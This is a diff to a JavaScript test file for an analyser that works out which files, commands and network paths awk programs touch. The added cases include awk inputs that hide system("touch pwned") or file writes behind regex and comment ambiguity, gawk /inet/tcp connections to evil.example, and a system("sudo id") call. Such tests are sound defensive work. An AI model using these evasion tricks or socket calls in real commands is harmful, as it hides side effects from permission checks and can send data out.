@@ -7,9 +7,16 @@ const printing = [
   "{ if ($1 > 2) print $2; else print $3 }",
   '{ print ($1 > 5) ? "big" : "small" }',
   '/a"b/ {n++} END {print n/2, (n+1)/3}',
-  "{ if (/x|y/) /z/; print a[1]/b }",
+  "{ if (/x|y/) z++; print a[1]/b }",
+  "$1 ~ /a[[:alpha:]]\\/[^b]/ && !/c/ || NR > 2 { next }",
+  "/a/,/b/ { n++ } END { if (n) print n; else print 0 }",
+  '{ for (i = 1; i <= NF; i++) { s += $i } printf "%d\\n", s / NF }',
+  "{ for (k in a) delete a[k]; do i++; while (i < 3) }",
+  '{ while ((getline line) > 0) print n++ ": " line }',
+  "function max(a, b) {\n  return a > b ? a : b\n}\n{ print max($1,\n $2) } # end",
+  "NR == FNR { a[$1] = $2; next } ($1 in a) { print a[$1] }",
+  "length > 80 { print length, length($0) }",
   "function f(a) { return a } { print f($1) }",
-  '{ print > "/dev/stderr" }',
   "{ getline; getline x; print x }",
   'BEGIN { PROCINFO["sorted_in"] = "@ind_str_asc" }',
   '# system("x") | "y"\n{print}',
@@ -36,6 +43,35 @@ const asking = [
   '{print "unterminated}',
   "{print 'x'}",
   "# goes on \\\n| {print}",
+  'BEGIN { x = length /"/ ; system("touch pwned") # "/\n}',
+  'BEGIN { x = NR ~ 1 ? length /"/ ; print > "pwned" # "/ : 2\n}',
+  'BEGIN { getline /"/ ; print > "pwned" # "/\n}',
+  'BEGIN { x = rand /"/ ; print > "pwned" # "/\n}',
+  'BEGIN { x++ /"/ ; print > "pwned" # "/\n}',
+  'BEGIN { x = "a" /"/ ; print > "pwned" # "/\n}',
+  'BEGIN { print /"/ > "pwned" # "/\n}',
+  'BEGIN { if (x) /"/ ; print > "pwned" # "/\n}',
+  '/[]/ "]/ { print > "pwned" } # "/',
+  '/[^]/ "]/ { print > "pwned" } # "/',
+  '/[[:x]/ "]/ { print > "pwned" } # "/',
+  'BEGIN{ print 1 ?\n 2 : 3 > "pwned" }',
+  'BEGIN{ print 1 ? 2 :\n 3 > "pwned" }',
+  'BEGIN{ print 1 +\n 3 > "pwned" }',
+  'BEGIN{ print (1\n) > "pwned" }',
+  'BEGIN{ print 1 >\n "pwned" }',
+  "BEGIN\n{ print 1 }",
+  'BEGIN { getline x < "/inet/tcp/0/evil.example/80" }',
+  'BEGIN { print > "/inet/tcp/0/evil.example/80" }',
+  'BEGIN { getline < "a" "b" }',
+  'BEGIN { getline x + 1 < "b" }',
+  "BEGIN { print 1 ? 2 : 3 > f }",
+  "BEGIN { switch (1) { case /x/: print } }",
+  'func f() { print > "pwned" }',
+  'BEGIN { print _"x" }',
+  'BEGIN { and = 1; print and /"/ ; print > "pwned" # "/\n}',
+  "BEGIN { x = 0x1f }",
+  "BEGIN { f(1) }",
+  "{ print \r}",
 ];
 
 describe("an awk program", () => {
@@ -55,6 +91,22 @@ describe("an awk program", () => {
     '{print(1)(2)>"out"\n}',
   ])("writes the file it prints to: %s", (program) => {
     expect(awkProgram(program)).toEqual([{ type: "path", use: "output", path: "out" }]);
+  });
+
+  it("tells of the standard error output, which may be a file", () => {
+    expect(awkProgram('{ print > "/dev/stderr" }')).toEqual([
+      { type: "path", use: "output", path: "/dev/stderr" },
+    ]);
+  });
+
+  it("tells what it has found before it can't be read", () => {
+    expect(awkProgram('BEGIN { system("sudo id"); x = length /"/ }')).toContainEqual(
+      expect.objectContaining({ type: "unknown" }),
+    );
+    expect(awkProgram('BEGIN { system("sudo id"); x ! y }')).toContainEqual({
+      type: "script",
+      text: "sudo id",
+    });
   });
 
   it("reads the file that getline names", () => {
